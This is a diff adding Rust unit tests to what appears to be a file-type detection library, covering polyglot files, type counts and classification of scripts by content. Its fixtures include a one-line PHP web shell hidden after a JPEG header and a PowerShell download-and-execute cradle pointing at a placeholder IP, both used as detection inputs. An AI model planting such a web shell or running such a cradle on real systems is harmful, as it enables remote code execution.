@@ -62,6 +62,43 @@ fn binary_formats() {
 }
 
 #[test]
+fn many_types_are_known() {
+    use super::{archive, languages, table};
+    let binary = table::TABLE.iter().map(|magic| magic.name);
+    let special = archive::names();
+    let texts = languages::names();
+    let names: std::collections::BTreeSet<&str> = binary.chain(special).chain(texts).collect();
+    assert!(names.len() >= 240, "{}", names.len());
+}
+
+#[test]
+fn polyglots_are_noticed() {
+    let mut zip = b"PK\x03\x04".to_vec();
+    zip.resize(31, 0);
+    let directory = zip.len();
+    zip.extend(b"PK\x01\x02");
+    zip.resize(directory + 47, 0);
+    zip.extend(b"PK\x05\x06\0\0\0\0\x01\0\x01\0\x2f\0\0\0\x1f\0\0\0\0\0");
+    let also = |bytes: &[u8]| identify(bytes, None).file_type.also;
+    assert!(also(&zip).is_empty());
+    assert_eq!(also(&[&b"GIF89a\x01\0\x01\0"[..], &zip].concat()), ["zip"]);
+    assert_eq!(also(b"\xff\xd8\xff\xe0\0\0<?php system($_GET[1]); ?>"), ["php"]);
+    assert_eq!(also(b"\x89PNG\r\n\x1a\n\0\0\0%PDF-1.4\n"), ["pdf"]);
+    let mut both = vec![0; 0x8800];
+    both[..6].copy_from_slice(b"%PDF-1");
+    both[0x8001..0x8006].copy_from_slice(b"CD001");
+    assert_eq!(also(&both), ["iso9660"]);
+}
+
+#[test]
+fn each_type_has_a_reason() {
+    for bytes in [&b"GIF89a"[..], b"#!/bin/sh\n", b"", b"\x01\x02\x03", b"{}", b"hello\n"] {
+        let reasons = identify(bytes, None).file_type.reasons;
+        assert!(reasons.iter().any(|reason| !reason.is_empty()), "{bytes:?}");
+    }
+}
+
+#[test]
 fn scripts_by_their_first_line() {
     for (line, expected) in [
         ("#!/bin/sh", "shell-script"),
@@ -98,7 +135,8 @@ fn texts_by_their_content() {
         ("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')", "powershell"),
         ("var x = document.createElement('a'); eval(x); function(y) { return 1 }", "javascript"),
         ("From: a@b.example\nTo: c@d.example\nSubject: hello\nDate: now\n\nhi\n", "mail"),
-        ("-----BEGIN CERTIFICATE-----\n", "pem"),
+        ("-----BEGIN CERTIFICATE-----\n", "certificate"),
+        ("-----BEGIN DH PARAMETERS-----\n", "pem"),
         ("Dear reader, this is a letter.\n", "text"),
         ("鵜飼\n", "text"),
     ] {
